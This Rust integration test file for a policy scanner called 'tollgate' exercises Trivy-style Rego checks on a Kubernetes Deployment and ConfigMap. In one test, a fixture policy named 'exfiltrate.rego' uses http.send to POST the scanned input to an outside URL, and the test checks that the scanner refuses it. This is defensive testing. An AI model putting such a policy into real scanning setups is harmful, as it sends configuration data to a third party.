//! `tollgate scan` with Trivy-style custom checks, end to end: `# METADATA` (id, severity,
//! title, recommended actions, input selector), the legacy `__rego_metadata__`/`__rego_input__`
//! rules, `result.new(msg, cause)` located at the cause, and `cloud`-schema checks refused.

mod common;

use common::{json, tollgate, write};
use serde_json::Value;

const DEPLOYMENT: &str = "apiVersion: apps/v1
kind: Deployment
metadata:
  name: ingest
  namespace: pipeline
spec:
  selector:
    matchLabels:
      app: ingest
  template:
    metadata:
      labels:
        app: ingest
    spec:
      containers:
        - name: reader
          image: registry.example.com/reader:2.3.1
        - name: debugger
          image: registry.example.com/debug:0.9.0
          securityContext:
            privileged: true
---
apiVersion: v1
kind: ConfigMap
metadata:
  name: ingest-settings
  namespace: pipeline
data:
  batch: \"500\"
";

/// A check written for `trivy config --config-check ... --namespaces user`.
const PRIVILEGED_CHECK: &str = r#"# METADATA
# title: Privileged container
# description: A privileged container has every capability of the node's root user.
# scope: package
# schemas:
#   - input: schema["kubernetes"]
# custom:
#   id: USR-KSV-001
#   avd_id: AVD-USR-0001
#   severity: CRITICAL
#   recommended_actions: Remove securityContext.privileged or set it to false.
#   input:
#     selector:
#       - type: kubernetes
#         subtypes:
#           - kind: deployment
package user.kubernetes.USR_KSV_001

import rego.v1

deny contains res if {
	some container in input.spec.template.spec.containers
	container.securityContext.privileged == true
	msg := sprintf("Container '%s' of Deployment '%s' should not be privileged", [container.name, input.metadata.name])
	res := result.new(msg, container)
}
"#;

/// The same kind of check in the legacy form (`__rego_metadata__`, `__rego_input__`).
const LEGACY_CHECK: &str = r#"package user.kubernetes.USR_KSV_002

import rego.v1

__rego_metadata__ := {
	"id": "USR-KSV-002",
	"title": "ConfigMap without owner label",
	"severity": "LOW",
	"type": "Kubernetes Security Check",
	"description": "Every ConfigMap names its owning team.",
	"recommended_actions": "Add metadata.labels.owner.",
}

__rego_input__ := {"selector": [{"type": "kubernetes"}]}

deny contains res if {
	input.kind == "ConfigMap"
	not input.metadata.labels.owner
	res := result.new(sprintf("ConfigMap '%s' has no owner label", [input.metadata.name]), input.metadata)
}
"#;

/// A check against Trivy's internal cloud schema: Tollgate has no such input and refuses it.
const CLOUD_CHECK: &str = r#"# METADATA
# title: S3 bucket encryption
# schemas:
#   - input: schema["cloud"]
# custom:
#   id: USR-AWS-001
#   severity: HIGH
#   input:
#     selector:
#       - type: cloud
#         subtypes:
#           - service: s3
#             provider: aws
package user.aws.USR_AWS_001

import rego.v1

deny contains res if {
	some bucket in input.aws.s3.buckets
	not bucket.encryption.enabled.value
	res := result.new("Bucket is not encrypted", bucket.encryption.enabled)
}
"#;

fn policy_findings(report: &Value) -> Vec<&Value> {
    report["findings"]
        .as_array()
        .expect("findings")
        .iter()
        .filter(|f| f["rule_id"].as_str().unwrap_or("").starts_with("USR-"))
        .collect()
}

#[test]
fn trivy_checks_run_unchanged_with_their_ids_severities_and_cause_locations() {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path();
    write(root, "k8s/ingest.yaml", DEPLOYMENT);
    write(root, "checks/privileged.rego", PRIVILEGED_CHECK);
    write(root, "checks/configmap.rego", LEGACY_CHECK);
    write(root, "checks/cloud.rego", CLOUD_CHECK);
    let output = tollgate(&["scan", "k8s", "--policy", "checks", "--format", "json"], root);
    let report = json(&output);
    let found = policy_findings(&report);
    let rows: Vec<String> = found
        .iter()
        .map(|f| {
            format!(
                "{} {} {} {}:{}-{} {}",
                f["rule_id"].as_str().unwrap_or_default(),
                f["severity"].as_str().unwrap_or_default(),
                f["address"].as_str().unwrap_or_default(),
                f["file"].as_str().unwrap_or_default(),
                f["start_line"],
                f["end_line"],
                f["message"].as_str().unwrap_or_default()
            )
        })
        .collect();
    assert_eq!(
        rows,
        [
            // result.new's cause is the container: its lines, not the whole Deployment.
            "USR-KSV-001 critical Deployment/pipeline/ingest k8s/ingest.yaml:18-21 Container 'debugger' of Deployment 'ingest' should not be privileged",
            // The legacy check's cause is the ConfigMap's metadata.
            "USR-KSV-002 low ConfigMap/pipeline/ingest-settings k8s/ingest.yaml:26-27 ConfigMap 'ingest-settings' has no owner label",
        ]
    );
    assert_eq!(found[0]["metadata"]["title"], "Privileged container");
    assert_eq!(found[1]["metadata"]["title"], "ConfigMap without owner label");
    // The cloud-schema check is refused by name, with its file; the others ran.
    let errors = report["errors"].as_array().expect("errors");
    assert!(
        errors.iter().any(|e| e["file"].as_str().unwrap_or_default().ends_with("cloud.rego")
            && e["message"].as_str().unwrap_or_default().contains("USR-AWS-001")),
        "{errors:?}"
    );
    assert_eq!(output.status.code(), Some(1));
}

#[test]
fn a_network_builtin_is_refused_when_the_policy_is_loaded() {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path();
    write(root, "k8s/ingest.yaml", DEPLOYMENT);
    write(
        root,
        "policy/exfiltrate.rego",
        "package main\n\nimport rego.v1\n\ndeny contains msg if {\n\tresp := http.send({\"method\": \"POST\", \"url\": \"https://example.com\", \"body\": input})\n\tmsg := resp.body\n}\n",
    );
    let report = json(&tollgate(&["scan", "k8s", "--format", "json"], root));
    let errors = report["errors"].as_array().expect("errors");
    assert_eq!(errors.len(), 1, "{errors:?}");
    assert_eq!(errors[0]["file"], "policy/exfiltrate.rego");
    assert_eq!(errors[0]["line"], 6);
    assert!(errors[0]["message"].as_str().unwrap_or_default().contains("http.send"), "{errors:?}");
}

/// Trivy's documented check form is Rego v0 (`deny[res] { ... }`), which Trivy parses by default.
const V0_CHECK: &str = r#"# METADATA
# title: ConfigMap in the pipeline namespace
# description: Pipeline settings live in the settings service, not in ConfigMaps.
# schemas:
# - input: schema["kubernetes"]
# custom:
#   id: USR-KSV-003
#   severity: MEDIUM
#   input:
#     selector:
#     - type: kubernetes
package user.kubernetes.USR_KSV_003

deny[res] {
    input.kind == "ConfigMap"
    input.metadata.namespace == "pipeline"
    msg := sprintf("ConfigMap '%s' holds pipeline settings", [input.metadata.name])
    res := result.new(msg, input)
}
"#;

#[test]
fn trivy_checks_in_rego_v0_run_as_trivy_runs_them_and_conftest_v0_says_how() {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path();
    write(root, "k8s/ingest.yaml", DEPLOYMENT);
    write(root, "checks/v0.rego", V0_CHECK);
    let report = json(&tollgate(&["scan", "k8s", "--policy", "checks", "--format", "json"], root));
    let found = policy_findings(&report);
    assert_eq!(found.len(), 1, "{:?}", report["errors"]);
    assert_eq!(found[0]["rule_id"], "USR-KSV-003");
    assert_eq!(found[0]["severity"], "medium");
    assert_eq!(found[0]["address"], "ConfigMap/pipeline/ingest-settings");

    // A Conftest policy in v0 is refused as Conftest refuses it, with the way out named.
    write(root, "policy/old.rego", "package main\n\ndeny[msg] {\n  input.kind == \"ConfigMap\"\n  msg := \"no\"\n}\n");
    let report = json(&tollgate(&["scan", "k8s", "--format", "json"], root));
    let errors = report["errors"].as_array().expect("errors");
    assert!(
        errors.iter().any(|e| e["file"] == "policy/old.rego"
            && e["message"].as_str().unwrap_or_default().contains("--rego-version v0")),
        "{errors:?}"
    );
}
